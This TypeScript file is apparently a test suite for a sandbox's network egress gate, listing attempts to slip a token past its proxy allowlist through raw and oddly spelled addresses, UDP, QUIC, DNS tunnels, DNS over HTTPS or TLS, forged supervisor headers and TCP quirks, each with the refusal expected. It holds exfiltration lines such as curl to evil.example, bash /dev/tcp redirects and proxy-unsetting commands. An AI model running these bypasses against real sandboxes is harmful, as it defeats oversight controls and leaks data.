/** Attacks that go past every proxy setting, to addresses of all spellings and by every transport. */
import assert from "node:assert/strict";
import {
	ALLOWED_LOOPBACK_PORT,
	byName,
	connect,
	framed,
	GATE,
	GOOD,
	GOOD_ADDRESS,
	GOOD_PORT,
	get,
	hex,
	METADATA,
	type NetworkAttack,
	question,
	tcp,
	toProxy,
	udp,
} from "./network-case.ts";

const NOT_NAMED = { reason: "NOT_IN_ALLOWLIST" } as const;
const DATAGRAM = { method: "DATAGRAM", reason: "NOT_IN_ALLOWLIST" } as const;

/** An address that no rule names, connected to directly. */
const address = (name: string, to: string): NetworkAttack => ({
	name,
	script: ({ port, token }) => tcp(to, port, token),
	refusal: { method: "TRANSPARENT", ...NOT_NAMED },
	bites: "yes",
});

const datagram = (name: string, to: string, bites: { readonly bites?: "yes" } = { bites: "yes" }): NetworkAttack => ({
	name,
	script: ({ port, token }) => udp(to, port, token),
	refusal: DATAGRAM,
	...bites,
});

/** A spelling that only some programs take for an address. */
const spelling = (name: string, host: string, refusal: NetworkAttack["refusal"]): NetworkAttack => ({
	name,
	script: ({ port, token }) =>
		`${connect(`${host}:${port}`, token)}\n` +
		`curl -s -m 3 --noproxy '*' 'http://${host}:${port}/${token}'\n` +
		`bash -c 'echo ${token} > /dev/tcp/${host}/${port}'`,
	...(refusal === undefined ? {} : { refusal }),
});

const INVALID = { method: "CONNECT", reason: "INVALID_DESTINATION", port: 0 } as const;

const ADDRESSES: readonly NetworkAttack[] = [
	{
		name: "proxy variables unset",
		script: ({ port, token }) =>
			`unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY no_proxy NO_PROXY\n` +
			`curl -s -m 3 http://93.184.216.34:${port}/${token}; curl -s -m 3 http://evil.example:${port}/${token}\n` +
			tcp("93.184.216.34", port, token),
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
		bites: "yes",
	},
	{
		name: "--noproxy",
		script: ({ port, token }) =>
			`curl -s -m 3 --noproxy '*' http://93.184.216.34:${port}/${token}; ` +
			`NO_PROXY='*' no_proxy='*' curl -s -m 3 http://93.184.216.34:${port}/${token}\n${tcp("93.184.216.34", port, token)}`,
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
		bites: "yes",
	},
	address("raw public IPv4 address", "93.184.216.34"),
	address("raw private address 10/8", "10.9.8.7"),
	address("raw private address 172.16/12", "172.16.1.1"),
	address("raw private address 192.168/16", "192.168.1.1"),
	address("raw address of the carrier range", "100.100.100.200"),
	address("raw metadata address", METADATA),
	address("raw documentation address that no rule names", "198.51.100.7"),
	address("raw public IPv6 address", "2606:4700:4700::1111"),
	address("raw private IPv6 address", "fd12:3456::1"),
	address("raw IPv6 metadata address", "fd00:ec2::254"),
	address("NAT64 of a metadata address", "64:ff9b::a9fe:a9fe"),
	address("6to4 of a loopback address", "2002:7f00:1::1"),
	address("address beside the allowed one", "203.0.113.11"),
	{
		name: "allowed address, the port beside",
		script: ({ port, token }) => `${tcp("203.0.113.10", port, token)}\n${byName(GOOD, port, token)}`,
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
		bites: "yes",
	},
	{
		name: "the allowed name's address without its name",
		script: ({ token }) => tcp(GOOD_ADDRESS, GOOD_PORT, get(GOOD, token)),
		refusal: { method: "TRANSPARENT", ...NOT_NAMED, port: GOOD_PORT, host: GOOD_ADDRESS },
	},
	{
		name: "IPv4-mapped socket address",
		script: ({ port, token }) => tcp("::ffff:93.184.216.34", port, token),
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
		bites: "yes",
	},
	{
		name: "IPv4-mapped loopback in CONNECT",
		script: ({ port, token }) => connect(`[::ffff:127.0.0.1]:${port}`, token),
		refusal: { method: "CONNECT", ...NOT_NAMED },
	},
	{
		name: "link-local address with its zone",
		script: ({ port, token }) => `${tcp("fe80::1%eth0", port, token)}\n${tcp("fe80::76:6fff:fe00:1%2", port, token)}`,
	},
	spelling("zone id in a name", "[fe80::1%25eth0]", { ...INVALID, host: "[fe80::1%25eth0]" }),
	spelling("decimal address", "2130706433", { ...INVALID, host: "2130706433" }),
	spelling("octal address", "0177.0.0.01", { ...INVALID, host: "0177.0.0.01" }),
	spelling("hexadecimal address", "0x7f000001", { ...INVALID, host: "0x7f000001" }),
	spelling("short address", "127.1", { ...INVALID, host: "127.1" }),
	spelling("address of all zeros", "0.0.0.0", { method: "CONNECT", ...NOT_NAMED }),
	{
		name: "the host's loopback",
		script: ({ port, token }) =>
			`${tcp("127.0.0.1", port, token)}\n${tcp("127.0.0.2", port, token)}\n${tcp("::1", port, token)}`,
		bites: "yes",
	},
	{
		name: "the host's loopback through the proxy",
		script: ({ port, token }) =>
			`${connect(`127.0.0.1:${port}`, token)}\n${connect(`localhost:${port}`, token)}\n${connect(`[::1]:${port}`, token)}`,
		refusal: { method: "CONNECT", ...NOT_NAMED, host: "127.0.0.1" },
	},
	{
		name: "a spoofed Host at the allowed loopback server: it is that server's, and reaches no other",
		script: ({ port, token }) =>
			tcp("127.0.0.1", ALLOWED_LOOPBACK_PORT, `GET /${token} HTTP/1.1\r\nHost: evil.example:${port}\r\n\r\n`),
		arrives: "token",
		check: ({ arrivals, aim }) =>
			assert.ok(arrivals(ALLOWED_LOOPBACK_PORT).connections.some(({ text }) => text.includes(aim.token))),
	},
	{
		name: "the allowed loopback server by another loopback address",
		script: ({ token }) => tcp("127.0.0.3", ALLOWED_LOOPBACK_PORT, token),
	},
];

const DATAGRAMS: readonly NetworkAttack[] = [
	datagram("UDP to a public address", "93.184.216.34"),
	datagram("UDP to an allowed server's address", GOOD_ADDRESS),
	datagram("UDP over IPv6", "2606:4700:4700::1111"),
	datagram("UDP to the metadata address", METADATA),
	datagram("UDP to another port of the gate", GATE),
	datagram("UDP multicast", "224.0.0.251", {}),
	{
		name: "UDP multicast over IPv6",
		script: ({ port, token }) => `${udp("ff02::fb%eth0", port, token)}\n${udp("ff05::1%eth0", port, token)}`,
		refusal: DATAGRAM,
	},
	datagram("UDP broadcast", "255.255.255.255", {}),
	datagram("UDP broadcast on the link", "10.0.2.255", {}),
	{
		name: "UDP to the host's loopback",
		script: ({ port, token }) =>
			`${udp("127.0.0.1", port, token)}\n${udp("127.0.0.2", port, token)}\n${udp("::1", port, token)}`,
		bites: "yes",
	},
	{
		name: "UDP in fragments",
		script: ({ port, token }) =>
			`./net udp 93.184.216.34 ${port} ${hex(token.padEnd(20, "."))}@3000\n./net udp 2606:4700::9 ${port} ${hex(token.padEnd(20, "."))}@3000`,
		refusal: DATAGRAM,
		bites: "yes",
	},
	{
		name: "QUIC to an allowed name",
		script: ({ token }) =>
			`curl -s -m 2 --http3-only https://${GOOD}/${token}\n` +
			`./net udp ${GOOD_ADDRESS} 443 ${hex(Buffer.concat([Buffer.from("c000000001088394c8f03e5157080000449e", "hex"), Buffer.from(token)]))}@40`,
		refusal: { ...DATAGRAM, port: 443 },
	},
	{
		name: "QUIC to the address that stands for a name",
		script: ({ token }) =>
			`for last in 1 2 3 4 5 6 7 8; do ${udp("198.18.0.$last", 443, `\xc0\0\0\0\x01${token}`)}; done`,
		refusal: { ...DATAGRAM, port: 443, host: "198.18.0.1" },
	},
];

const RESOLVING: readonly NetworkAttack[] = [
	{
		name: "a DNS tunnel by query names to the gate's resolver",
		script: ({ token }) =>
			[1, 16, 28, 5, 15, 10, 255]
				.map((type) => udp(GATE, 53, question(`${token}.${"x".repeat(60)}.tunnel.example`, type)))
				.join("\n"),
		refusal: { method: "DNS", ...NOT_NAMED, port: 53, host: `exfiltrated` },
		check: neverLookedUp,
	},
	{
		name: "a DNS tunnel below an allowed wildcard: answered here, asked of nobody",
		script: ({ token }) =>
			[1, 16, 28, 65, 255].map((type) => udp(GATE, 53, question(`${token}.wild.example`, type))).join("\n"),
		check: neverLookedUp,
	},
	{
		name: "a DNS tunnel over TCP to the gate",
		script: ({ token }) =>
			`${tcp(GATE, 53, framed(question(`${token}.tunnel.example`, 16)))}\n${tcp("fd00:766f::1", 53, framed(question(`${token}.tunnel6.example`)))}`,
		refusal: { method: "DNS", ...NOT_NAMED, port: 53, host: "exfiltrated" },
		check: neverLookedUp,
	},
	{
		name: "the sandbox's own resolver library",
		script: ({ token }) =>
			`getent hosts ${token}.tunnel.example; getent ahosts ${token}.good.example; ${udp(GATE, 53, question(`${token}.deep.tunnel.example`))}`,
		check: neverLookedUp,
	},
	{
		name: "DNS to another server",
		script: ({ token }) =>
			`${udp("8.8.8.8", 53, question(`${token}.tunnel.example`))}\n${udp("2001:4860:4860::8888", 53, question(`${token}.tunnel.example`))}`,
		refusal: { ...DATAGRAM, port: 53, host: "8.8.8.8" },
	},
	{
		name: "DNS to another server over TCP",
		script: ({ token }) => tcp("8.8.8.8", 53, framed(question(`${token}.tunnel.example`))),
		refusal: { method: "TRANSPARENT", ...NOT_NAMED, port: 53, host: "8.8.8.8" },
	},
	{
		name: "DNS over TLS",
		script: ({ token }) => tcp("1.1.1.1", 853, Buffer.concat([Buffer.from("16030100", "hex"), Buffer.from(token)])),
		refusal: { method: "TRANSPARENT", ...NOT_NAMED, port: 853, host: "1.1.1.1" },
	},
	{
		name: "DNS over HTTPS",
		script: ({ token }) =>
			`curl -s -m 3 -k -H 'accept: application/dns-json' 'https://1.1.1.1/dns-query?name=${token}.example'\n` +
			`curl -s -m 3 --doh-url https://1.1.1.1/dns-query http://${token}.example/\n` +
			connect("dns.google:443", token),
		refusal: { method: "CONNECT", ...NOT_NAMED, port: 443, host: "dns.google" },
	},
	{
		name: "what is no question to the resolver",
		script: ({ token }) =>
			[
				token,
				token.repeat(80),
				`\x12\x34\x01\0\0\x01\0\0\0\0\0\0\xc0\x0c\0\x01\0\x01${token}`,
				`\x12\x34\x85\x80${token}`,
			]
				.map((message) => udp(GATE, 53, message))
				.join("\n"),
		refusal: { method: "DNS", reason: "INVALID_DESTINATION", port: 53 },
	},
	{
		name: "65 kB of DNS in a datagram",
		script: ({ token }) => `./net udp ${GATE} 53 ${hex(token.padEnd(50, "."))}@1300`,
		refusal: { port: 53, reason: "INVALID_DESTINATION", method: "DNS" },
	},
	{
		name: "1 MiB of DNS over TCP",
		script: ({ token }) =>
			`./net tcp ${GATE} 53 ${hex(Buffer.concat([Buffer.from([255, 255]), Buffer.from(token.padEnd(48, "."))]))}@20900`,
	},
];

function neverLookedUp({ lookups, aim }: Parameters<NonNullable<NetworkAttack["check"]>>[0]): void {
	assert.deepEqual(
		lookups.filter((name) => name.includes(aim.token.toLowerCase())),
		[],
	);
}

const SUPERVISOR: readonly NetworkAttack[] = [
	{
		name: "the supervisor's redirect port, with a header of its own",
		script: ({ port, token }) =>
			[GATE, "fd00:766f::1", "10.0.2.77"]
				.map((to) => tcp(to, 9081, `VOUCH1 tcp 1 127.0.0.1 1 127.0.0.1 ${port}\n${token}`))
				.join("\n"),
		refusal: { method: "TRANSPARENT", reason: "DNS_DENIED", port: 9081, host: GATE },
	},
	{
		name: "every other port of the gate",
		script: ({ token }) => [1, 22, 80, 443, 9079, 9082, 65_535].map((port) => tcp(GATE, port, token)).join("\n"),
		refusal: { method: "TRANSPARENT", reason: "DNS_DENIED", port: 22, host: GATE },
	},
	{
		name: "a forged header to the proxy",
		script: ({ port, token }) =>
			toProxy(`VOUCH1 tcp 1 10.0.2.2 1 93.184.216.34 ${port}\n${token}`) +
			`\n${toProxy(`VOUCH1 dns 1 10.0.2.2 1 93.184.216.34 ${port}\n\0\x05${token}`)}`,
	},
	{
		name: "a forged header to the resolver",
		script: ({ port, token }) =>
			`${udp(GATE, 53, `VOUCH1 tcp 1 10.0.2.2 1 93.184.216.34 ${port}\n${token}`)}\n${tcp(GATE, 53, `VOUCH1 tcp 1 10.0.2.2 1 93.184.216.34 ${port}\n${token}`)}`,
	},
	{
		name: "a forged header through an allowed server: bytes to that server and nothing more",
		script: ({ port, token }) =>
			tcp("127.0.0.1", ALLOWED_LOOPBACK_PORT, `VOUCH1 tcp 1 127.0.0.1 1 127.0.0.1 ${port}\n${token}`),
		arrives: "token",
		check: ({ arrivals, aim }) =>
			assert.ok(
				arrivals(ALLOWED_LOOPBACK_PORT).connections.some(
					({ text }) => text.startsWith("VOUCH1") && text.includes(aim.token),
				),
			),
	},
	{
		name: "an address of the pool that no name has",
		script: ({ port, token }) => `${tcp("198.18.200.1", port, token)}\n${tcp("198.19.255.254", GOOD_PORT, token)}`,
		refusal: { method: "TRANSPARENT", reason: "DNS_DENIED" },
		bites: "yes",
	},
	{
		name: "a neighbour on the link that isn't there",
		script: ({ port, token }) =>
			`${tcp("10.0.2.77", port, token)}\n${udp("10.0.2.77", port, token)}\n${udp("fd00:766f::77", port, token)}`,
		bites: "yes",
	},
	{
		name: "data in the first packet",
		script: ({ port, token }) =>
			`./net first_packet 93.184.216.34 ${port} ${hex(token)}@50\n./net first_packet 2606:4700::9 ${port} ${hex(token)}`,
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
	},
	{
		name: "a stream that ends its side first",
		script: ({ port, token }) => `./net half 93.184.216.34 ${port} ${hex(token)}`,
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
		bites: "yes",
	},
	{
		name: "urgent data",
		script: ({ port, token }) => `./net urgent 93.184.216.34 ${port} ${hex(token)}`,
		refusal: { method: "TRANSPARENT", ...NOT_NAMED },
	},
	{
		name: "multipath TCP",
		// Refused where it begins: it has no socket, and so no entry.
		script: ({ port, token }) => `./net tcp 93.184.216.34 ${port} ${hex(token)} 262`,
		bites: "yes",
	},
];

export const DIRECT_ATTACKS: readonly NetworkAttack[] = [...ADDRESSES, ...DATAGRAMS, ...RESOLVING, ...SUPERVISOR];
